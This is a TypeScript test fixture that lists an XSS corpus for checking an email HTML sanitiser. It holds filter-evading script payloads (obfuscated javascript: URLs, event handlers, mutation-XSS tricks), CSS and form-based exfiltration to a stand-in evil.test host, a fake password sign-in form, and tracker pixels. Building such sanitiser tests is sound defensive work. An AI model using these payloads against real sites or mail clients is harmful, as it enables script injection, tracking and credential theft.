// The usual XSS corpus, as it would arrive in a mail's HTML body. `harmlessRaw` marks the few
// payloads that Chromium itself does not run unsanitised (old-IE tricks), so the browser test can
// prove its oracle catches every other one before trusting it on the sanitised output.
export interface XssCase {
  name: string;
  html: string;
  /** Text of the mail around the payload that must survive. */
  keeps?: string;
  harmlessRaw?: boolean;
}

const alert = 'alert(1)';

export const xssCorpus: XssCase[] = [
  { name: 'script element', html: `<p>hi</p><script>${alert}</script>`, keeps: 'hi' },
  {
    name: 'script in SVG',
    html: `<svg><script>${alert}</script></svg><p>after</p>`,
    keeps: 'after',
  },
  { name: 'SVG onload', html: `<svg onload="${alert}"><circle r="4"/></svg>ok`, keeps: 'ok' },
  { name: 'img onerror', html: `<img src="x" onerror="${alert}">text`, keeps: 'text' },
  { name: 'onclick on a link', html: `<a href="https://ok.test/" onclick="${alert}">go</a>` },
  {
    name: 'details ontoggle',
    html: `<details open ontoggle="${alert}"><summary>s</summary></details>`,
  },
  { name: 'autofocus onfocus', html: `<input autofocus onfocus="${alert}">` },
  { name: 'body onload', html: `<body onload="${alert}"><p>body</p></body>`, keeps: 'body' },
  { name: 'javascript: href', html: `<a href="javascript:${alert}">click</a>`, keeps: 'click' },
  { name: 'javascript: with a tab entity', html: `<a href="jav&#x09;ascript:${alert}">a</a>` },
  { name: 'javascript: with a decimal entity', html: `<a href="&#106;avascript:${alert}">b</a>` },
  {
    name: 'javascript: with entities, no semicolons',
    html: `<a href="&#x6A&#x61vascript:${alert}">c</a>`,
  },
  {
    name: 'javascript: with &colon; and &Tab;',
    html: `<a href="java&Tab;script&colon;${alert}">d</a>`,
  },
  { name: 'javascript: with a newline', html: `<a href="java\nscript:${alert}">e</a>` },
  {
    name: 'javascript: after control chars',
    html: `<a href="\u0001 \u0010javascript:${alert}">f</a>`,
  },
  { name: 'javascript: mixed case', html: `<a href="JaVaScRiPt:${alert}">g</a>` },
  { name: 'vbscript: href', html: '<a href="vbscript:msgbox(1)">h</a>', harmlessRaw: true },
  { name: 'data:text/html href', html: `<a href="data:text/html,<script>${alert}</script>">i</a>` },
  { name: 'SVG as a data: image', html: '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">' },
  {
    name: 'CSS expression',
    html: `<div style="width: expression(${alert})">w</div>`,
    keeps: 'w',
    harmlessRaw: true,
  },
  {
    name: 'CSS url() exfiltration',
    html: '<div style="background-image:url(https://evil.test/leak)">u</div>',
  },
  {
    name: 'CSS escapes spelling url(',
    html: '<div style="background:\\75rl(https://evil.test/esc)">v</div>',
  },
  {
    name: 'CSS behavior and -moz-binding',
    html: '<p style="behavior:url(x.htc);-moz-binding:url(https://evil.test/b.xml#x)">m</p>',
  },
  {
    name: '@import in a style block',
    html: '<style>@import url(https://evil.test/x.css);</style><p>s</p>',
    keeps: 's',
  },
  {
    name: 'style block with url()',
    html: '<style>p{background:url(https://evil.test/bg)}</style><p>t</p>',
  },
  {
    name: 'link stylesheet',
    html: '<link rel="stylesheet" href="https://evil.test/l.css"><p>l</p>',
  },
  {
    name: 'base href',
    html: '<base href="https://evil.test/"><a href="page">relative</a>',
    keeps: 'relative',
  },
  {
    name: 'meta refresh',
    html: `<meta http-equiv="refresh" content="0;url=javascript:${alert}"><p>r</p>`,
  },
  {
    name: 'conditional comment',
    html: `<!--[if IE]><script>${alert}</script><![endif]--><p>cc</p>`,
    keeps: 'cc',
    harmlessRaw: true,
  },
  {
    name: 'comment closed by --!>',
    html: `<!-- --!><script>${alert}</script> --><p>n</p>`,
    keeps: 'n',
  },
  { name: 'comment inside an attribute', html: `<!--<img src="--><img src=x onerror=${alert}//">` },
  {
    name: 'noscript mXSS',
    html: `<noscript><p title="</noscript><img src=x onerror=${alert}>"></noscript>`,
  },
  {
    name: 'math/mglyph namespace confusion',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${alert}&gt;">`,
    harmlessRaw: true,
  },
  { name: 'SVG style breakout', html: `<svg><style><img src=x onerror=${alert}></style></svg>` },
  {
    name: 'form posting elsewhere',
    html: '<form action="https://evil.test/"><input name="password"><button>Sign in</button></form>',
    keeps: 'Sign in',
  },
  {
    name: 'iframe srcdoc',
    html: `<iframe srcdoc="<script>parent.${alert}</script>"></iframe><p>i</p>`,
  },
  {
    name: 'object and embed',
    html: '<object data="https://evil.test/o.swf"></object><embed src="https://evil.test/e.swf">',
  },
  {
    name: 'remote tracking pixel',
    html: '<img src="https://tracker.test/open.gif" width="1" height="1">',
  },
  { name: 'srcset to a tracker', html: '<img srcset="https://tracker.test/s.gif 1x">' },
  {
    name: 'table background attribute',
    html: '<table background="https://tracker.test/bg.gif"><tr><td>tb</td></tr></table>',
  },
  {
    name: 'spoofed data-remote-src',
    html: `<img data-remote-src="javascript:${alert}" src="x" onerror="${alert}">`,
  },
  { name: 'video source onerror', html: `<video><source onerror="${alert}"></video>` },
  {
    name: 'textarea and xmp raw text',
    html: `<textarea><img src=x onerror=${alert}></textarea><xmp><img src=x onerror=${alert}></xmp>`,
    harmlessRaw: true,
  },
  {
    name: 'DOM clobbering by id and name',
    html: '<img name="getElementById"><form id="crm"></form><a id="x" name="y">z</a>',
  },
];
